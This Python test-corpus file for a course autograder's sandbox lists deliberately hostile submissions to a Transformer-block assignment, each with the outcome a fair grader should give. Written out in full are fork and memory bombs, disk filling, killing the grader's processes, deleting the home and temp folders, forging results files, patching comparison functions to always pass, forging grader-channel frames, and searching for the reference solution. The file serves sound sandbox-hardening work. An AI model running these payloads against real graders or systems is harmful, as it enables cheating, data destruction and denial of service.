"""The hostile corpus: submissions that misbehave on purpose, each with the outcome a fair grader gives it.

The rules behind the outcomes:
* a wrong answer wrapped in forgery (patched comparisons, fake results files, fake JSON, forged frames on
  the grader's channel) still scores as wrong;
* a correct answer that merely misbehaves around it still scores as correct;
* a cell that crashes the process, hangs or kills itself while loading counts like a cell that raised an
  exception: it is reported in the notes, skipped, and the rest of the submission is graded;
* misbehaviour inside `forward` costs the forward's points, never Task 2's (and the other way round).

Hostile code goes into its own cell (`# %%`) at the end of the module unless it is part of `forward` or
Task 2. Paths outside the sandbox are computed here, in the trusted test process, and written into the
source, so the corpus aims at the real repository and the real temporary folder.
"""
from __future__ import annotations

import os
import tempfile
import textwrap
from dataclasses import dataclass
from pathlib import Path

from autograder.course import kit

from .build import submission

# Outcomes (see tests/sandbox/test_hostile.py for exactly what each asserts).
FULL = "full marks"                 # score == TOTAL_POINTS
TASK2_ONLY = "Task 2 only"          # every forward check 0 points, Task 2 full: only the forward is lost
TASK1_ONLY = "Task 1 only"          # every forward check full, Task 2 0 points
WRONG = "wrong forward"             # 'output matches a Pre-LN block' lost, Task 2 full, below full marks
AS_POST_LN = "no better than Post-LN"   # at most what an honest Post-LN forward scores
ZERO = "zero"                       # score 0: nothing could be graded

# The test server's limits: short, so that what can only fail by running out of time fails in seconds.
LIMITS = {"load_s": 3, "probe_s": 3, "job_s": 20, "processes": 16, "wall_factor": 3}

PASSED = "All parts passed"         # the phrase of full marks with nothing to explain
MARK = "hostile-corpus-forgery"     # in every forged file, so a stray one is recognisable
TMP = Path(tempfile.gettempdir())
CANARY = TMP / f"autograder-hostile-canary-{os.getpid()}"   # made by the test; the corpus tries to delete it
FORGED_IN_TMP = (TMP / "results.json", TMP / f"{MARK}.json")    # the shared temporary folder
FORGED_IN_GRADER_FOLDERS = (                                    # the repository, the sandbox's code, Gradescope's results
    kit.ROOT / "results.json",
    kit.ROOT / "out" / "results.json",
    kit.ROOT / "autograder" / "sandbox" / "inside" / "results.json",
    Path("/autograder/results/results.json"),
)
FORGED_PATHS = FORGED_IN_TMP + FORGED_IN_GRADER_FOLDERS          # outside the sandbox: none may hold a forgery


@dataclass(frozen=True)
class Hostile:
    name: str
    source: str
    outcome: str
    phrase: str                       # must appear (any case) in the result's messages or notes
    known_bug: str | None = None      # expected to fail, and why (xfail, strict)
    max_seconds: float | None = None  # the grading must not take longer than this
    # Where it runs (tests/layers.py). `touches`: the kinds of kernel object of the sandbox's table
    # (`autograder.sandbox.kinds`, its rows) that its fair outcome depends on; each layer closes them its own way, so
    # it runs in every layer. Without any, `once` says in one line why no layer changes its outcome (the parent reads
    # what the child sends or does the same way in every layer): it runs in one layer (`layers.one_layer`).
    touches: tuple[str, ...] = ()
    once: str = ""

    @property
    def every_layer(self) -> bool:
        return bool(self.touches)


# Why an entry runs in one layer: what decides its outcome is the same code, and the same kernel objects, in each.
COMPILES = "the cells are compiled in the child's own interpreter: nothing of the layer is involved"
CLOCKS = ("the supervisor's CPU and wall clocks, and the kill of one process, the same code in every layer (the "
          "clock and the kill over a whole process tree, in each layer: fork_bomb_in_forward)")
ENDS = ("how its one process ends (an exit, an exception, its stack overflowing): its supervisor reads the status and "
        "the channel the same way in every layer")
OUTPUT = "what it prints: pipes its supervisor drains and bounds the same way in every layer"
VALUES = "what forward returns: an answer on the channel, read and judged by the parent the same way in every layer"
CHANNEL = ("what it sends on the grader's channel (forged, malformed, deep or huge frames): read by the parent the "
           "same way in every layer")
PATCHES = ("what it patches in its own process (the harness, torch, numpy): its own memory, gone with it, whatever "
           "the layer")


def cell(code: str, label: str = "hostile") -> str:
    """`code` as a cell of its own at the end of the module."""
    return f"\n# %% {label}\n{textwrap.dedent(code).strip()}\n"


POST_LN = """
def forward(self, x):
    x = self.norm1(x + self.drop_shortcut(self.att(x)))
    return self.norm2(x + self.drop_shortcut(self.ff(x)))
"""

FORGE_FRAMES = """
import json, os

def _frame(obj):
    data = json.dumps(obj).encode()
    os.write(3, len(data).to_bytes(4, "big") + data)
"""

IGNORE_SIGNALS = """
import signal
for _number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(_number, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
"""

FAKE_RESULTS = f"""
import json, os
_fake = json.dumps({{"score": 100.0, "max_score": 24, "output": "All tests passed", "tests": [], "mark": {MARK!r}}})
_inside = [os.path.join(os.getcwd(), "results.json"), os.path.join(os.path.expanduser("~"), "results.json")]
for _path in _inside + {[str(p) for p in FORGED_PATHS]!r}:
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "w") as _handle:
            _handle.write(_fake)
    except OSError:
        pass
"""

FAKE_JSON = f"""
import json
FAKE = json.dumps({{"score": 24.0, "max_score": 24.0, "output": "All tests passed", "mark": {MARK!r},
                   "tests": [{{"name": "forward_order", "score": 4, "max_score": 4, "status": "passed"}}]}})
print(FAKE)
print("\\x00\\x00\\x00\\x10" + FAKE)    # and once framed like the grader's own messages
"""

# Task 2 as the reference solves it: what a submission that reached the grading files would copy.
TASK2_SOLUTION = next(code for label, code in kit.KIT.reference_code() if "task2_compounding" in label)

# Look for the solution the way a determined student would: through the grader's modules (after removing every
# import hook that is not Python's own, and by loading the kit's files by path), the notebooks and the kit's own
# catalogs at their known paths, and a walk around the folder the harness came from. If anything secret could be
# read, the submission turns itself into a correct one (so the score shows the leak), and says what it found.
FIND_REFERENCE = f"""
import importlib, importlib.util, json, os, sys, time
ROOT = {str(kit.ROOT)!r}
_STOLEN_TASK2 = {TASK2_SOLUTION!r}
_found = []
sys.meta_path[:] = [f for f in sys.meta_path if type(f).__module__.startswith(("_frozen_importlib", "importlib"))]
sys.path[:0] = [ROOT, os.path.dirname(ROOT), "/"]
for _name in ("autograder.course.kit", "autograder.grading.reference", "autograder.engine.rubric", ROOT.strip("/").replace("/", ".") + ".autograder.course.kit"):
    try:
        importlib.import_module(_name)
        _found.append(_name)
    except Exception:
        pass
for _file in ("autograder/course/kit.py", "autograder/course/notebook.py", "autograder/grading/reference.py"):
    try:
        _spec = importlib.util.spec_from_file_location("stolen", os.path.join(ROOT, _file))
        _spec.loader.exec_module(importlib.util.module_from_spec(_spec))
        _found.append(_file)
    except Exception:
        pass
_paths = [os.path.join(ROOT, "assignments", "source", "layernorm", "layernorm.ipynb"),
          os.path.join(ROOT, "solutions", "layernorm.ipynb"),
          os.path.join(ROOT, "assignments", "sample_class", "ada_correct", "layernorm", "layernorm.ipynb"),
          os.path.join(ROOT, "tests", "catalog", "equivalent_forwards.py")]
_harness = os.path.dirname(getattr(sys.modules.get("autograder.sandbox.inside"), "__file__", None) or ROOT)
_stop, _seen = time.monotonic() + 1.5, 0
for _top, _dirs, _files in os.walk(os.path.dirname(os.path.dirname(os.path.dirname(_harness)))):
    _dirs[:] = [d for d in _dirs if not d.startswith(".") and d not in ("site-packages", "node_modules")]
    _paths += [os.path.join(_top, f) for f in _files if f.endswith((".ipynb", "wrong_forwards.py"))]
    _seen += 1
    if time.monotonic() > _stop or _seen > 2000:
        break
for _path in _paths:
    try:
        with open(_path) as _handle:
            if "drop_shortcut(self.ff" in _handle.read():
                _found.append(_path)
    except Exception:
        pass
if _found:
    exec(_STOLEN_TASK2, globals())
    def _stolen_forward(self, x):
        x = x + self.drop_shortcut(self.att(self.norm1(x)))
        return x + self.drop_shortcut(self.ff(self.norm2(x)))
    TransformerBlock.forward = _stolen_forward
    print("found a way to the grading files:", _found[:3])
"""

# A blank template: both tasks as released, the stubs that raise.
TEMPLATE_FORWARD = 'def forward(self, x):\n    raise NotImplementedError("Task 1: write TransformerBlock.forward")\n'
TEMPLATE_TASK2 = """
def magnitude_by_formula(factor, n_layers):
    raise NotImplementedError("Task 2: write magnitude_by_formula")

def magnitude_by_autograd(factor, n_layers):
    raise NotImplementedError("Task 2: write magnitude_by_autograd")

def classify_factor(factor):
    raise NotImplementedError("Task 2: write classify_factor")
"""


def template(extra: str = "") -> str:
    return submission(forward=TEMPLATE_FORWARD, task2=TEMPLATE_TASK2, extra=extra)


# Code in the child can reach the harness it shares a process with: these patch it to report made-up answers.
FORGE_EVERYTHING = """
import sys, torch
_probes = sys.modules["autograder.engine.questions.probes"]
def _fake_run(p):
    x = p.x()
    grads = {name: torch.zeros_like(param) for name, param in _probes.part_params(p.block()).items()}
    return {"y": x.clone(), "calls": [], "notes": [], "x_grad": torch.ones_like(x), "param_grads": grads, "events": []}
_probes.PROBES.update({
    "eval": _fake_run, "train": _fake_run, "eval_seeds": lambda p: {"y_a": p.x(), "y_b": p.x()},
    "zero": lambda p: {"y": p.x()}, "inplace": lambda p: {"x_after": p.x()},
    "robust_small": lambda p: {"y": p.x()[:1, : p.plan.cfg["context_length"] - 3].clone()},
    "robust_nograd": lambda p: {"y": p.x()}, "robust_double": lambda p: {"y": p.x(torch.float64), "dtype": "float64"},
    "robust_meta": lambda p: {"device": "meta", "dtype": "float32"}, "profile": lambda p: {"profile": [1.0] * 24},
    "compounding": lambda p: {"chains": [], "classify": []},
})
"""

# Made-up calls that tell the Pre-LN story with invented values, and an output that agrees with them.
FORGE_CONSISTENT_CALLS = """
import sys, torch
_probes = sys.modules["autograder.engine.questions.probes"]
def _story(p):
    x = p.x()
    g = torch.Generator().manual_seed(1)
    n1, a, n2, f = (torch.randn(x.shape, generator=g) for _ in range(4))
    h = x + a
    calls = [{"name": n, "kind": "module", "input": i, "output": o, "training": None, "via": None, "where": None,
              "no_grad": False} for n, i, o in (("norm1", x, n1), ("att", n1, a), ("norm2", h, n2), ("ff", n2, f))]
    grads = {name: torch.ones_like(param) for name, param in _probes.part_params(p.block()).items()}
    return {"y": h + f, "calls": calls, "notes": [], "x_grad": torch.ones_like(x), "param_grads": grads, "events": []}
_probes.PROBES.update({"eval": _story, "train": _story, "zero": lambda p: {"y": p.x()},
                       "inplace": lambda p: {"x_after": p.x()}, "eval_seeds": lambda p: {"y_a": _story(p)["y"], "y_b": _story(p)["y"]},
                       "compounding": lambda p: {"chains": [{"formula": {"value": [2.0 ** k for k in range(1, 11)]},
                                                             "autograd": {"value": [2.0 ** k for k in range(1, 11)]},
                                                             "autograd_calls": 10}], "classify": [{"value": "exploding"}]}})
"""

# A Post-LN forward that tries to recognise the grader's special questions and answer them like Pre-LN.
POST_LN_RECOGNISING_PROBES = """
def forward(self, x):
    import inspect
    if all(bool((p == 0).all()) for p in list(self.att.parameters()) + list(self.ff.parameters())):
        return x.clone()                                    # silenced branches: hand back the input
    callers = {frame.function for frame in inspect.stack()[1:40]}
    if "gradient_profile" in callers or "deep_profile" in callers or "probe_profile" in callers:
        x = x + self.drop_shortcut(self.att(self.norm1(x)))  # in the deep stack: behave like Pre-LN
        return x + self.drop_shortcut(self.ff(self.norm2(x)))
    if self.training and self.drop_shortcut.p >= 1.0:
        return x.clone()
    x = self.norm1(x + self.drop_shortcut(self.att(x)))
    return self.norm2(x + self.drop_shortcut(self.ff(x)))
"""

# Answers nested 400 levels deep, and a frame 200,000 levels deep on the grader's channel (with a survivor).
NESTED_ANSWER = """
import sys
_probes = sys.modules["autograder.engine.questions.probes"]
_nested = {"ok": True}
for _ in range(400):
    _nested = {"y": _nested}
_probes.PROBES["eval"] = lambda p: _nested
_probes.PROBES["train"] = lambda p: _nested
"""
DEEP_FRAME_AND_SURVIVOR = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
_body = b"[" * 200_000 + b"]" * 200_000
os.write(3, len(_body).to_bytes(4, "big") + _body)
time.sleep(30)
"""
THOUSANDS_OF_CALLS = """
import sys
_probes = sys.modules["autograder.engine.questions.probes"]
_real = _probes._recorded_run
def _flood(p, train):
    result = _real(p, train)
    result["calls"] = [dict(call, grad_out=None) for call in result["calls"]] * 300  # a frame the parent still reads
    return result
_probes._recorded_run = _flood
"""
HUGE_TASK2_ANSWER = """
import sys
_probes = sys.modules["autograder.engine.questions.probes"]
_probes.PROBES["compounding"] = lambda p: {"chains": [{"formula": {"value": "1.0," * 6_000_000},
                                                      "autograd": {"value": []}, "autograd_calls": 1}],
                                           "classify": [{"value": "stable"}]}
"""
FORKED_MEMORY = """
import os, select, time
_holding, _held = os.pipe()           # a child's process id, once it holds its gigabyte
_stay, _go = os.pipe()                # closed by the parent: the children may end
_children = []
for _ in range(3):
    _pid = os.fork()
    if _pid == 0:
        os.close(_go)
        _hog = bytearray(1024 ** 3)
        for _i in range(0, len(_hog), 4096):
            _hog[_i] = 1
        os.write(_held, os.getpid().to_bytes(8, "little"))
        os.read(_stay, 1)             # all three alive together, until each holds its gigabyte or is gone
        os._exit(0)
    _children.append(_pid)
_waiting, _until = set(_children), time.monotonic() + 10
while _waiting and time.monotonic() < _until:
    if select.select([_holding], [], [], 0.02)[0]:
        _waiting.discard(int.from_bytes(os.read(_holding, 8), "little"))
    for _pid in list(_waiting):
        if os.waitpid(_pid, os.WNOHANG)[0]:
            _waiting.discard(_pid)
            _children.remove(_pid)
os.close(_go)
for _pid in _children:
    os.waitpid(_pid, 0)
"""
FILL_THE_DISK = """
import os
for _n in range(40):
    try:
        with open(f"fill-{_n}.bin", "wb") as _handle:
            for _ in range(16):
                _handle.write(b"x" * 2**20)
    except OSError:
        break
"""


def _entries() -> list[Hostile]:
    return [
        # --- code that does not compile ----------------------------------------------------------------
        Hostile("syntax_error_in_forward", submission(forward="def forward(self, x):\n    return x +\n"),
                TASK2_ONLY, "SyntaxError", once=COMPILES),
        Hostile("syntax_error_everywhere", "def forward(self x):\n    return x\n\nclass TransformerBlock(\n",
                ZERO, "SyntaxError", once=COMPILES),

        # --- never finishing ---------------------------------------------------------------------------
        Hostile("endless_loop_in_forward",
                submission(forward="def forward(self, x):\n    while True:\n        pass\n"),
                TASK2_ONLY, "did not finish within 3 s", once=CLOCKS),
        Hostile("endless_loop_while_loading_ignoring_signals",
                submission(extra=cell(IGNORE_SIGNALS + "\nimport time\nwhile True:\n    time.sleep(0.01)")),
                FULL, "did not finish within 9 s in this cell, most of it spent waiting", once=CLOCKS),
        Hostile("endless_loop_in_task2", submission(task2="""
            def magnitude_by_formula(factor, n_layers):
                while True:
                    pass

            def magnitude_by_autograd(factor, n_layers):
                return magnitude_by_formula(factor, n_layers)

            def classify_factor(factor):
                return magnitude_by_formula(factor, 1)
            """), TASK1_ONLY, "did not finish within 3 s of computing time during the 'compounding' check", once=CLOCKS),

        # --- ending the process ------------------------------------------------------------------------
        Hostile("sys_exit_while_loading", submission(extra=cell("import sys\nsys.exit(0)")), FULL, "SystemExit", once=ENDS),
        Hostile("os_exit_while_loading", submission(extra=cell("import os\nos._exit(0)")),
                FULL, "ended the grading process in this cell", once=ENDS),
        Hostile("keyboard_interrupt_while_loading", submission(extra=cell("raise KeyboardInterrupt")),
                FULL, "KeyboardInterrupt", once=ENDS),
        Hostile("sigkill_self_while_loading",
                submission(extra=cell("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")),
                FULL, "killed in this cell", touches=("other_processes",)),
        Hostile("sys_exit_in_forward", submission(forward="def forward(self, x):\n    import sys\n    sys.exit(1)\n"),
                TASK2_ONLY, "SystemExit", once=ENDS),
        Hostile("os_exit_in_forward", submission(forward="def forward(self, x):\n    import os\n    os._exit(0)\n"),
                TASK2_ONLY, "ended the grading process during the 'eval' check", once=ENDS),
        Hostile("keyboard_interrupt_in_forward",
                submission(forward="def forward(self, x):\n    raise KeyboardInterrupt\n"),
                TASK2_ONLY, "KeyboardInterrupt", once=ENDS),
        Hostile("sigkill_self_in_forward",
                submission(forward="def forward(self, x):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)\n"),
                TASK2_ONLY, "killed during the 'eval' check", touches=("other_processes",)),
        Hostile("kill_the_grader", submission(extra=cell("""
            import os, signal
            def _parent_of(pid):
                with open(f"/proc/{pid}/stat") as stat:
                    return int(stat.read().rsplit(")", 1)[1].split()[1])
            _server = os.getppid()
            for _kill in (lambda: os.kill(_server, signal.SIGKILL),                  # the grading server
                          lambda: os.killpg(os.getpgid(_server), signal.SIGKILL),    # its process group
                          lambda: os.kill(_parent_of(_server), signal.SIGKILL)):     # what started it
                try:
                    _kill()
                except OSError:
                    pass
            os.kill(os.getpid(), signal.SIGKILL)                                     # and, failing that, itself
            """)), FULL, "killed in this cell", touches=("other_processes",)),

        # --- resources ---------------------------------------------------------------------------------
        Hostile("memory_bomb_in_forward", submission(forward="""
            def forward(self, x):
                hog = []
                while True:
                    hog.append(torch.empty(2**27))
            """), TASK2_ONLY, "can't allocate memory", touches=("processes",)),
        Hostile("memory_bomb_while_loading", submission(extra=cell("_hog = [0] * 2**40")), FULL, "out of memory",
                touches=("processes",)),
        Hostile("fork_bomb_while_loading", submission(extra=cell("import os\nwhile True:\n    os.fork()")),
                FULL, "BlockingIOError", touches=("processes",)),
        Hostile("fork_bomb_in_forward", submission(forward="""
            def forward(self, x):
                import os
                while True:
                    try:
                        if os.fork() == 0:
                            os.setsid()     # out of the child's session: the grader must still find it
                    except OSError:
                        pass
            """), TASK2_ONLY, "did not finish within 3 s", touches=("processes",)),
        Hostile("output_flood_while_loading", submission(extra=cell(
            "import os, sys\nfor _ in range(50):\n    sys.stdout.write('x' * 1_000_000)\n"
            "sys.stderr.write('y' * 10_000_000)\nos.write(1, b'z' * 1_000_000)")), FULL, PASSED, once=OUTPUT),
        Hostile("output_flood_in_forward", submission(forward="""
            def forward(self, x):
                print("x" * 1_000_000)
                x = x + self.drop_shortcut(self.att(self.norm1(x)))
                return x + self.drop_shortcut(self.ff(self.norm2(x)))
            """), FULL, PASSED, once=OUTPUT),
        Hostile("background_thread_keeps_printing", submission(extra=cell("""
            import sys, threading, time
            def _chatter():
                while True:
                    sys.stdout.write("still here\\n")
                    time.sleep(0.001)
            threading.Thread(target=_chatter, daemon=True).start()
            """)), FULL, PASSED, touches=("processes",)),
        Hostile("orphan_keeps_the_pipes_open", submission(extra=cell("""
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(600)
                os._exit(0)
            """)), FULL, PASSED, max_seconds=LIMITS["probe_s"], touches=("processes",)),
        Hostile("os_exit_in_forward_while_an_orphan_keeps_the_pipes", submission(
            forward="def forward(self, x):\n    import os\n    os._exit(3)\n",
            extra=cell("import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(600)")),
                TASK2_ONLY, "ended the grading process during the 'eval' check (exit 3", touches=("processes",)),
        Hostile("unbounded_recursion_in_forward", submission(forward="def forward(self, x):\n    return self(x)\n"),
                TASK2_ONLY, "RecursionError", once=ENDS),
        Hostile("unbounded_recursion_while_loading",
                submission(extra=cell("def _down(n):\n    return _down(n + 1)\n_down(0)")),
                FULL, "RecursionError", once=ENDS),
        Hostile("unbounded_recursion_past_a_raised_limit", submission(extra=cell("""
            import sys
            class _Deeper:
                def __call__(self, n):
                    return self(n + 1)      # through C: the process's own stack overflows, not Python's limit
            sys.setrecursionlimit(10**8)
            _Deeper()(0)
            """)), FULL, "deep recursion", once=ENDS),

        # --- wrong values, wrong types -----------------------------------------------------------------
        Hostile("nan_output", submission(forward="def forward(self, x):\n    return x * float('nan')\n"), WRONG, "NaN",
                once=VALUES),
        Hostile("inf_output", submission(forward="""
            def forward(self, x):
                x = x + self.drop_shortcut(self.att(self.norm1(x)))
                x = x + self.drop_shortcut(self.ff(self.norm2(x)))
                return x + float("inf")
            """), WRONG, "NaN or inf", once=VALUES),
        Hostile("returns_a_tuple", submission(forward="def forward(self, x):\n    return x, None\n"),
                TASK2_ONLY, "not a tensor", once=VALUES),
        Hostile("returns_a_numpy_array",
                submission(forward="def forward(self, x):\n    return x.detach().numpy()\n"),
                TASK2_ONLY, "not a tensor", once=VALUES),
        Hostile("returns_the_wrong_shape", submission(forward="def forward(self, x):\n    return x[:, :-1]\n"),
                TASK2_ONLY, "shape", once=VALUES),

        # --- forgery -----------------------------------------------------------------------------------
        Hostile("patched_comparisons_on_a_wrong_forward", submission(forward=POST_LN, extra=cell("""
            import numpy, numpy.testing, torch, torch.testing
            torch.allclose = torch.Tensor.allclose = lambda *a, **k: True
            torch.equal = torch.Tensor.equal = lambda *a, **k: True
            torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
            torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
            torch.Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)
            torch.testing.assert_close = lambda *a, **k: None
            numpy.allclose = numpy.array_equal = lambda *a, **k: True
            numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
            numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
            """)), WRONG, "Post-LN", once=PATCHES),
        Hostile("patched_comparisons_on_a_correct_forward", submission(extra=cell("""
            import numpy, torch
            torch.allclose = torch.Tensor.allclose = lambda *a, **k: True
            torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
            numpy.allclose = lambda *a, **k: True
            """)), FULL, PASSED, once=PATCHES),
        Hostile("fake_results_files_on_a_wrong_forward", submission(forward=POST_LN, extra=cell(FAKE_RESULTS)),
                WRONG, "Post-LN", touches=("writable_places", "grading_files")),
        Hostile("fake_results_files_on_a_correct_forward", submission(extra=cell(FAKE_RESULTS)), FULL, PASSED,
                touches=("writable_places", "grading_files")),
        Hostile("fake_json_printed_on_a_wrong_forward", submission(
            forward=POST_LN.replace("def forward(self, x):", "def forward(self, x):\n    print(FAKE)"),
            extra=cell(FAKE_JSON)), WRONG, "Post-LN", once=OUTPUT),
        Hostile("malformed_frames_on_the_grader_channel", submission(forward=POST_LN, extra=cell(FORGE_FRAMES + """
_frame({"event": "start", "probe": []})
_frame({"event": "start", "probe": {"eval": 1}})
_frame({"event": "cell", "index": "0"})
_frame({"event": "loaded", "cell_errors": "abc", "defined": 7})
_frame(["event", "done"])
_frame(None)
""")), WRONG, "Post-LN", once=CHANNEL),
        Hostile("garbage_on_the_grader_channel_while_loading",
                submission(extra=cell("import os\nos.write(3, b'\\xff' * 64)")),
                FULL, "garbage into the grader's channel in this cell", once=CHANNEL),
        Hostile("forged_observation_from_forward", submission(
            forward=POST_LN.replace("def forward(self, x):", "def forward(self, x):\n    _frame(FORGED)"),
            extra=cell(FORGE_FRAMES + "FORGED = {'event': 'result', 'probe': 'eval', "
                                      "'observation': {'ok': True, 'y': 'all correct', 'notes': 24}}", "forge")),
                WRONG, "malformed", once=CHANNEL),

        # --- the environment ---------------------------------------------------------------------------
        Hostile("deletes_its_working_directory", submission(extra=cell(f"""
            import os, shutil, tempfile
            for _target in (os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(), {str(CANARY)!r}):
                shutil.rmtree(_target, ignore_errors=True)
            os.chdir("/")
            """)), FULL, PASSED, touches=("writable_places",)),
        Hostile("changes_global_torch_defaults", submission(extra=cell("""
            import random, numpy, torch
            torch.set_default_dtype(torch.float64)
            torch.set_default_device("meta")
            torch.set_grad_enabled(False)
            torch.manual_seed(0)
            random.seed(0)
            numpy.random.seed(0)
            """)), FULL, PASSED, once=PATCHES),
        Hostile("warns_on_stderr_while_loading_and_in_forward", submission(
            prefix="# %% warnings\nimport sys, warnings\nwarnings.warn('a torch-style warning')\n"
                   "print('to stderr', file=sys.stderr)\n",
            forward="""
            def forward(self, x):
                import warnings
                warnings.warn("deprecated thing used in forward", UserWarning)
                x = x + self.drop_shortcut(self.att(self.norm1(x)))
                return x + self.drop_shortcut(self.ff(self.norm2(x)))
            """), FULL, PASSED, once=OUTPUT),
        Hostile("looks_for_the_reference_solution", submission(forward=POST_LN, extra=cell(FIND_REFERENCE)),
                WRONG, "Post-LN", touches=("grading_files", "other_files")),
        Hostile("blank_template_looks_for_the_reference_solution", template(cell(FIND_REFERENCE)), ZERO, "Task 1",
                touches=("grading_files", "other_files")),

        # --- forging answers by patching the harness in the child ----------------------------------------
        Hostile("blank_template_forges_every_answer", template(cell(FORGE_EVERYTHING)), ZERO, "malformed", once=PATCHES),
        Hostile("blank_template_forges_a_consistent_story", template(cell(FORGE_CONSISTENT_CALLS)), ZERO,
                "not what norm1 computes", once=PATCHES),
        Hostile("post_ln_that_recognises_the_special_questions", submission(forward=POST_LN_RECOGNISING_PROBES),
                AS_POST_LN, "Post-LN", once=VALUES),
        Hostile("skips_the_device_check_it_needs", submission(
            forward="""
            def forward(self, x):
                x = x.cpu()
                x = x + self.drop_shortcut(self.att(self.norm1(x)))
                return x + self.drop_shortcut(self.ff(self.norm2(x)))
            """, extra=cell("""
            import sys
            sys.modules["autograder.engine.questions.probes"].PROBES["robust_meta"] = lambda p: {"screened": True}
            """)), FULL, ".cpu()", once=PATCHES),
        Hostile("answers_nested_400_levels_deep", template(cell(NESTED_ANSWER)), ZERO, "nested too deeply", once=PATCHES),
        Hostile("frame_200000_levels_deep_with_a_survivor", submission(extra=cell(DEEP_FRAME_AND_SURVIVOR)), FULL,
                "garbage into the grader's channel", touches=("processes",)),
        Hostile("thousands_of_recorded_calls", submission(extra=cell(THOUSANDS_OF_CALLS)), TASK2_ONLY,
                "at most 96 calls", max_seconds=30, once=CHANNEL),
        Hostile("task2_answer_of_tens_of_megabytes", submission(extra=cell(HUGE_TASK2_ANSWER)), TASK1_ONLY,
                "garbage into the grader's channel", max_seconds=30, once=CHANNEL),

        # --- resources of the job as a whole -------------------------------------------------------------
        Hostile("forked_children_share_one_memory_limit", submission(extra=cell(FORKED_MEMORY)), FULL, PASSED,
                touches=("processes",)),
        Hostile("fills_the_working_directory", submission(extra=cell(FILL_THE_DISK)), FULL, PASSED, touches=("writable_places",)),
        Hostile("slow_but_valid_imports", submission(
            prefix="# %% imports\nimport csv, unittest\nimport numpy.testing\nimport networkx\n",
            forward="""
            def forward(self, x):
                import networkx  # noqa: F401  (imported again: cached)
                x = x + self.drop_shortcut(self.att(self.norm1(x)))
                return x + self.drop_shortcut(self.ff(self.norm2(x)))
            """), FULL, PASSED, touches=("grading_files",)),   # the files a child may read: Python's, each layer its own way
    ]


HOSTILE = _entries()
